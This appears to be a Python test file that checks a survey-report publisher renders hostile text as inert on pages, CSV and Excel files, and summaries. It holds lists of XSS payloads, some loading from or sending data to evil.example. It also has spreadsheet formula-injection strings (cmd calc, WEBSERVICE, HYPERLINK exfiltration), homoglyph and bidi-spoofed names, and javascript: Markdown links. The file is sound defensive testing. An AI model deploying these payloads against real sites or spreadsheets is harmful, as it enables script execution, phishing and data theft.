"""Hostile texts of customers and authors: on page, file, workbook and summary none of them acts.

One table of texts, each of which has run, left or restyled something somewhere, goes through all
that is published, as a cell, as a name, as a value in a sentence and as Markdown.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import unicodedata
from functools import cache
from typing import TYPE_CHECKING

import openpyxl
import pandas as pd
import pytest
from nbformat import v4
from small_front import front

from cxreport.publish.beside import files_beside
from cxreport.publish.elements import read_page
from cxreport.publish.export import Headings, Links, export_page, pieces_of, write_markdown
from cxreport.publish.gate import check_page, nothing_foreign
from cxreport.publish.gate_beside import check_beside
from cxreport.show.blocks import MIME, Block
from cxreport.show.parts import Column, say, sentences
from cxreport.show.plain_text import visible

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='position:fixed;top:0;width:100%'>OK</p>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=a><button>Go</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<marquee onstart=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</td></tr></table><h1>Official</h1>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "fine;=1+1",
    "fine,=1+1",
    "fine\n=1+1",
    '";=1+1;"',
    "_x003D_1+1",
]  # fmt: skip
DISGUISES = [
    "tel\u202egnp.exe",
    "\u2066\u2067turned\u2069\u2069 NPS 90",
    "pay\u200bpal\u200d.com",
    "hidden " + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "a" + "\u0336\u0489\u0301" * 40,
    "\u0430pple.example",
    "p\u0430yp\u0430l.example/login",
    "line\u2028break\u2029",
    "bell\x07 escape\x1b[31m null\x00",
    "\u3164\u115f\u1160",
    "x" * 5000,
]
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](intent://x#Intent;end)",
    "[click](ftp://evil.example/x)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[click](https://a.example "x\\" onclick=alert(1) ")',
    "```x onclick=alert(1)\ncode\n```",
]
HOSTILE = [*MARKUP, *FORMULAS, *DISGUISES, *MARKDOWN]
REFUSED = ["[click](file:///etc/passwd)", "|a|\n|:-:|\n|b|"]
"""Texts that the gate stops, so that they are no part of the page here."""
PERIOD = {"period": {"name": "2026-10", "kind": "month"}, "reference": None}
BOTH = dict.fromkeys(("en", "it"), "Shops")
HEADER = Block(
    "header",
    parameters=PERIOD
    | {
        "names": {},
        "labels": {},
        "title": dict.fromkeys(("en", "it"), HOSTILE[0]),
        "first": "2026-10-01",
        "last": "2026-10-31",
        "source": dict.fromkeys(("en", "it"), HOSTILE[2]),
        "terms": dict.fromkeys(("en", "it"), HOSTILE[15]),
        "filters": {},
        "observed_until": "2026-10-31",
        "synthetic": False,
    },
)
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]")
RUNNING = re.compile(r"[=@＝＠]|[+\-＋－]\w*[-+*/(|!]")


def name_card(text: str) -> dict[str, object]:
    named = say("value.with_range", value=text, range=text)
    return {"name": named, "value": named, "lines": [named], "look": ""}


@cache
def published(language: str) -> tuple[str, dict[str, bytes]]:
    """Return a page of every hostile text, and what lies beside it."""
    frame = pd.DataFrame({"group": HOSTILE, "n": range(100, 100 + len(HOSTILE))})
    labels = {"group": {text: {"en": text, "it": text} for text in HOSTILE}}
    columns = (Column("group", "code:group"), Column("group", "as_is", "answer"), Column("n"))
    about = PERIOD | {"names": {"group": {"en": HOSTILE[0], "it": HOSTILE[0]}}, "labels": labels}
    written = [say("value.range", low=text, high=text) for text in HOSTILE]
    cards = Block(
        "cards",
        frame,
        about
        | {
            "topic": "survey",
            "caption": "means",
            "cards": [name_card(text) for text in HOSTILE],
            "columns": [{"name": c.name, "how": c.how, "heading": c.heading} for c in columns],
        },
    )
    blocks = [
        HEADER,
        cards,
        front(HOSTILE, n_cards=4, **about),
        sentences("show", written, **about),
    ]
    own = {"title": dict.fromkeys(("en", "it"), HOSTILE[2])}
    blocks.append(Block("plain_table", frame.rename(columns={"group": HOSTILE[45]}), own))
    outputs = [v4.new_output("display_data", {MIME: block.payload()}) for block in blocks]
    as_markdown = [*MARKUP, *FORMULAS, *DISGUISES]  # of a link that runs, the gate stops the page
    cells = [v4.new_markdown_cell(f"## {text}\n\n{text}") for text in as_markdown]
    notebook = v4.new_notebook(cells=[v4.new_code_cell("", outputs=outputs), *cells])
    pieces = pieces_of(notebook, language, file="shops-2026-10")
    files = files_beside(pieces, language, page=f"shops/2026-10/{language}.html")
    provenance = {
        "commit": None, "clean": False, "notebook": HOSTILE[0], "parameters": {"a": HOSTILE[1]},
        "codebook_sha256": "ab", "data": {HOSTILE[2]: "cd"}, "libraries": {"python": "3"},
    }  # fmt: skip
    workbook = {"file": f"{language}.xlsx", "name": HOSTILE[30]}
    links = Links(["it"], "a.html", "b.html", "c.html", "d.html", "e.html", workbook)
    return export_page(notebook, language, provenance, pieces=pieces, links=links), files


def test_there_are_60_texts_and_no_two_are_alike() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("language", ["en", "it"])
def test_the_page_holds_them_as_text_alone(language: str) -> None:
    page, _ = published(language)
    assert check_page(page) == []  # elements, attributes and addresses are on a short list
    elements = read_page(page)
    assert len(elements.every("h1")) == len(elements.every("style")) == 1
    names = {element.name for element in elements.every()}
    assert not names & {"script", "img", "iframe", "object", "form", "base", "link", "input"}
    assert len(elements.every("svg")) == 4  # of the cards
    cells = [cell.words() for cell in elements.every("table")[-1].every("th")][2:]
    plain = [re.sub("[\u2066-\u2069]", "", cell) for cell in cells]
    assert plain == [expected(text) for text in HOSTILE]


def expected(text: str) -> str:
    shown = visible(text)
    return shown if len(shown) <= 400 else shown[:399] + "…"


def test_nothing_that_is_not_seen_is_left() -> None:
    for text in HOSTILE:
        shown = visible(text)
        assert not [sign for sign in shown if unicodedata.category(sign) in {"Cf", "Cs"}]
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u3164]", shown)
        assert shown == unicodedata.normalize("NFC", shown)
        marks = "".join("m" if unicodedata.category(sign)[0] == "M" else " " for sign in shown)
        assert "mmm" not in marks


@pytest.mark.parametrize("text", [*HOSTILE, *REFUSED], ids=range(len(HOSTILE) + 2))
def test_markdown_becomes_what_is_allowed(text: str) -> None:
    html = str(write_markdown(visible(text), Headings()))
    page = read_page(f"<!doctype html>{html}")
    assert nothing_foreign(page) == []
    for element in page.every("a"):
        scheme = re.match(r"([a-z][a-z\d+.-]*):", element.attributes.get("href", "").lower())
        assert not scheme or scheme[1] in {"http", "https", "mailto", "tel"}
    assert not {e.name for e in page.every()} & {"script", "style", "svg", "iframe", "form"}


@pytest.mark.parametrize("language", ["en", "it"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_file_runs_in_a_spreadsheet_of_any_country(
    language: str, separator: str
) -> None:
    page, _ = published(language)
    [_, data] = re.findall(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page)
    text = base64.b64decode(data).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    for cell in (cell for row in rows for cell in row):
        assert not RUNNING.match(cell.lstrip().lstrip('"')), cell
    if separator == (";" if language == "it" else ","):
        assert [row[-1] for row in rows[1:]] == [str(100 + n) for n in range(len(HOSTILE))]
        touched = [row[1] for row, text in zip(rows[1:], HOSTILE, strict=True)
                   if row[1] != expected(text)]  # fmt: skip
        assert len(touched) == len([t for t in HOSTILE if t in FORMULAS and t != "_x003D_1+1"])


@pytest.mark.parametrize("language", ["en", "it"])
def test_the_workbook_holds_them_as_text(language: str) -> None:
    _, files = published(language)
    content = files[f"{language}.xlsx"]
    assert check_beside(f"{language}.xlsx", content) == []
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not {cell.data_type for cell in cells} - {"s", "n"}
    for cell in cells:
        assert not (isinstance(cell.value, str) and FORMULA.match(cell.value)), cell.value
    texts = {str(cell.value) for cell in cells}
    assert {expected(text) for text in [*MARKUP, "_x003D_1+1"]} <= texts


@pytest.mark.parametrize("language", ["en", "it"])
def test_the_summary_says_them_and_no_more(language: str) -> None:
    _, files = published(language)
    for kind in ("txt", "html", "json"):
        name = f"{language}.summary.{kind}"
        assert check_beside(name, files[name]) == []
    elements = read_page(files[f"{language}.summary.html"].decode()).every()
    assert {e.name for e in elements} == {
        "!doctype html", "html", "head", "meta", "title", "body", "h1", "p",
    }  # fmt: skip


def test_a_browser_runs_nothing_and_asks_for_nothing(browser: Browser, tmp_path: Path) -> None:
    page, files = published("en")
    (tmp_path / "en.html").write_text(page, "utf-8")
    (tmp_path / "mail.html").write_bytes(files["en.summary.html"])
    events: list[str] = []
    tab = browser.new_page()
    tab.on("dialog", lambda dialog: (events.append(dialog.message), dialog.dismiss()))
    tab.on("console", lambda message: events.append(message.text))
    tab.on("pageerror", lambda error: events.append(str(error)))
    tab.on("request", lambda request: events.append(request.url))
    for name in ("en.html", "mail.html"):
        address = (tmp_path / name).as_uri()
        tab.goto(address)
        for fold in tab.locator("summary").all():
            fold.click()
        assert events.pop(0) == address
        assert events == []
        assert tab.url == address
    tab.close()
